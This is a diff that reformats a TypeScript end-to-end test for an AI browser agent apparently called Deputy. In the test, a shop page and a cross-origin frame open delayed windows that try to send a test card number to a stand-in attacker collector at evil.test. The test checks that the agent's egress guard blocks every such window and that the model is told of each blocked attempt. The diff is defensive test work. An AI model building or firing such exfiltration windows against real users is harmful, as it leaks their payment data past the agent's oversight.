@@ -27,20 +27,13 @@ interface Cell {
   delay: number;
   destination: (typeof DESTINATIONS)[number];
 }
-const CELLS: Cell[] = OPENERS.flatMap((opener) =>
-  DELAYS.flatMap((delay) =>
-    DESTINATIONS.map((destination) => ({ id: `${opener}-${delay}-${destination}`, opener, delay, destination })),
-  ),
-);
+const CELLS: Cell[] = OPENERS.flatMap((opener) => DELAYS.flatMap((delay) => DESTINATIONS.map((destination) => ({ id: `${opener}-${delay}-${destination}`, opener, delay, destination }))));
 
-const page = (title: string, body: string): string =>
-  `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
+const page = (title: string, body: string): string => `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
 
 /** Where a cell's window goes: a page of the shop (approved: the task's own site), or the attacker's collector. */
 function target(sites: AttackSites, cell: Cell): string {
-  return cell.destination === 'approved'
-    ? `${sites.shopOrigin}/late/land/${cell.id}`
-    : `${sites.evilOrigin}/late/collect/${cell.id}?card=4111111111111111`;
+  return cell.destination === 'approved' ? `${sites.shopOrigin}/late/land/${cell.id}` : `${sites.evilOrigin}/late/collect/${cell.id}?card=4111111111111111`;
 }
 
 /** The shop's page: one click schedules every cell's window, each the way its opener would open it. */
@@ -92,16 +85,12 @@ function shopPage(sites: AttackSites): string {
 // The frame of another site opens its cells' windows itself, on the page's word (its cells, in one message; other
 // messages, such as the key Deputy's own frame reader posts into frames, are not the page's word). It shows no words:
 // words from it would make the click ask (frames cannot borrow the page's authority), and this file is about the windows.
-const FRAME = page(
-  'Partner',
-  `<script>onmessage = (e) => Array.isArray(e.data) && e.data.forEach((cell) => setTimeout(() => window.open(cell.url), cell.delay));</script>`,
-);
+const FRAME = page('Partner', `<script>onmessage = (e) => Array.isArray(e.data) && e.data.forEach((cell) => setTimeout(() => window.open(cell.url), cell.delay));</script>`);
 
 const FINISHED = new Set(['completed', 'failed', 'stopped', 'handed_to_user']);
 
 /** Whether the model was told of a cell's window to the attacker: on an approval's outcome, or as a late block. */
-const toldOf = (request: RecordedRequest, cell: Cell): boolean =>
-  messagesOf(request).some((m) => textOf(m.content).includes(`/late/collect/${cell.id}`));
+const toldOf = (request: RecordedRequest, cell: Cell): boolean => messagesOf(request).some((m) => textOf(m.content).includes(`/late/collect/${cell.id}`));
 
 /**
  * The model clicks the button once (again only if the click did not take: a page still loading), then waits while the
@@ -112,10 +101,7 @@ const toldOf = (request: RecordedRequest, cell: Cell): boolean =>
 function script(sites: AttackSites): Array<(request: RecordedRequest) => ReturnType<typeof call>> {
   let clickedAt: number | undefined;
   let ended = false;
-  const landed = (): boolean =>
-    CELLS.filter((c) => c.destination === 'approved').every((cell) =>
-      sites.shop.log.some((r) => r.path === `/late/land/${cell.id}`),
-    );
+  const landed = (): boolean => CELLS.filter((c) => c.destination === 'approved').every((cell) => sites.shop.log.some((r) => r.path === `/late/land/${cell.id}`));
   const step = (request: RecordedRequest): ReturnType<typeof call> => {
     if (ended) return call('done', { success: true, summary: 'Opened the offers.' });
     if (currentView(request).includes('Offers on their way')) {
@@ -140,10 +126,7 @@ function script(sites: AttackSites): Array<(request: RecordedRequest) => ReturnT
 }
 
 async function tabsAt(helper: Page, path: string): Promise<number> {
-  return helper.evaluate(
-    async (p) => (await chrome.tabs.query({})).filter((t) => `${t.url ?? ''} ${t.pendingUrl ?? ''}`.includes(p)).length,
-    path,
-  );
+  return helper.evaluate(async (p) => (await chrome.tabs.query({})).filter((t) => `${t.url ?? ''} ${t.pendingUrl ?? ''}`.includes(p)).length, path);
 }
 
 describe('windows the page opens late are the task’s, for its whole life', () => {
@@ -155,23 +138,14 @@ describe('windows the page opens late are the task’s, for its whole life', () 
     const { sites, fake, helper } = world;
     sites.shop.routes.set('/late/', shopPage(sites));
     sites.cdn.routes.set('/late/frame', FRAME);
-    for (const cell of CELLS)
-      sites.shop.routes.set(`/late/land/${cell.id}`, page(`Offer ${cell.id}`, `<h1>Offer ${cell.id}</h1>`));
+    for (const cell of CELLS) sites.shop.routes.set(`/late/land/${cell.id}`, page(`Offer ${cell.id}`, `<h1>Offer ${cell.id}</h1>`));
     for (const site of [sites.shop, sites.evil, sites.cdn]) site.log.length = 0;
     const tab = await world.ext.browser.newPage();
     await tab.goto('about:blank#late-windows');
-    const tabId = await helper.evaluate(
-      async () => (await chrome.tabs.query({})).find((t) => t.url === 'about:blank#late-windows')?.id ?? -1,
-    );
+    const tabId = await helper.evaluate(async () => (await chrome.tabs.query({})).find((t) => t.url === 'about:blank#late-windows')?.id ?? -1);
     for (const step of script(sites)) fake.enqueue(step);
     started = Date.now();
-    record = await uiCall(helper, 'task.start', {
-      tabId,
-      text: 'Open the offers for me',
-      mode: 'act',
-      flow: 'task',
-      url: `${sites.shopOrigin}/late/`,
-    });
+    record = await uiCall(helper, 'task.start', { tabId, text: 'Open the offers for me', mode: 'act', flow: 'task', url: `${sites.shopOrigin}/late/` });
     // Every approval is refused: the user never lets a window go anywhere.
     record = await waitUntil(
       'the task to end',
@@ -180,9 +154,7 @@ describe('windows the page opens late are the task’s, for its whole life', () 
         const approval = now.approval;
         if (approval && !approvals.some((a) => a.id === approval.id)) {
           approvals.push(approval);
-          await uiCall(helper, 'task.approve', { taskId: now.id, approvalId: approval.id, decision: 'reject' }).catch(
-            () => undefined,
-          );
+          await uiCall(helper, 'task.approve', { taskId: now.id, approvalId: approval.id, decision: 'reject' }).catch(() => undefined);
         }
         return FINISHED.has(now.status) ? now : null;
       },
@@ -192,13 +164,7 @@ describe('windows the page opens late are the task’s, for its whole life', () 
   }, 150_000);
 
   it('the task ran as long as the latest window needed, and every cell really opened its window', async () => {
-    expect(
-      record.status,
-      JSON.stringify({
-        error: record.error,
-        steps: record.agent?.steps.flatMap((s) => s.calls.map((c) => `${c.name} ${c.status}`)),
-      }),
-    ).toBe('completed');
+    expect(record.status, JSON.stringify({ error: record.error, steps: record.agent?.steps.flatMap((s) => s.calls.map((c) => `${c.name} ${c.status}`)) })).toBe('completed');
     expect(Date.now() - started).toBeGreaterThan(Math.max(...DELAYS));
     for (const cell of CELLS.filter((c) => c.destination === 'unapproved')) {
       // The window was made, so the attack was tried and stopped: it is still open, held on its first request, or it
@@ -213,16 +179,10 @@ describe('windows the page opens late are the task’s, for its whole life', () 
     it(`${cell.opener}, after ${cell.delay} ms, to the ${cell.destination} site`, () => {
       const { sites } = world;
       if (cell.destination === 'unapproved') {
-        expect(
-          sites.evil.log.filter((r) => r.path.includes(cell.id)),
-          cell.id,
-        ).toEqual([]);
+        expect(sites.evil.log.filter((r) => r.path.includes(cell.id)), cell.id).toEqual([]);
       } else {
         // A window to the task's own site is the task's too, and loads: the guard holds only what leaves.
-        expect(
-          sites.shop.log.some((r) => r.path === `/late/land/${cell.id}`),
-          cell.id,
-        ).toBe(true);
+        expect(sites.shop.log.some((r) => r.path === `/late/land/${cell.id}`), cell.id).toBe(true);
       }
     });
   }
@@ -231,16 +191,12 @@ describe('windows the page opens late are the task’s, for its whole life', () 
     const requests = world.fake.requests;
     const last = requests.at(-1);
     expect(last).toBeDefined();
-    const told = CELLS.filter(
-      (c) => c.destination === 'unapproved' && !approvals.some((a) => a.reason.includes(`/late/collect/${c.id}`)),
-    );
+    const told = CELLS.filter((c) => c.destination === 'unapproved' && !approvals.some((a) => a.reason.includes(`/late/collect/${c.id}`)));
     // Only one window can be asked about per action: the others are the ones told late, and there are some.
     expect(told.length).toBeGreaterThan(0);
     for (const cell of told) {
       const note = (record.notes ?? []).find((n) => n.text.includes(`/late/collect/${cell.id} `));
-      expect(note?.text, cell.id).toMatch(
-        /^The page tried to open a window( posting a form)? with data to http:\/\/evil\.test:\d+\/late\/collect\/\S+ \(http:\/\/evil\.test:\d+, not an approved site\) in tab \d+; Deputy's egress guard blocked it and nothing was sent\.$/,
-      );
+      expect(note?.text, cell.id).toMatch(/^The page tried to open a window( posting a form)? with data to http:\/\/evil\.test:\d+\/late\/collect\/\S+ \(http:\/\/evil\.test:\d+, not an approved site\) in tab \d+; Deputy's egress guard blocked it and nothing was sent\.$/);
       expect(note?.text).not.toContain('4111');
       expect(toldOf(last as RecordedRequest, cell), cell.id).toBe(true);
     }
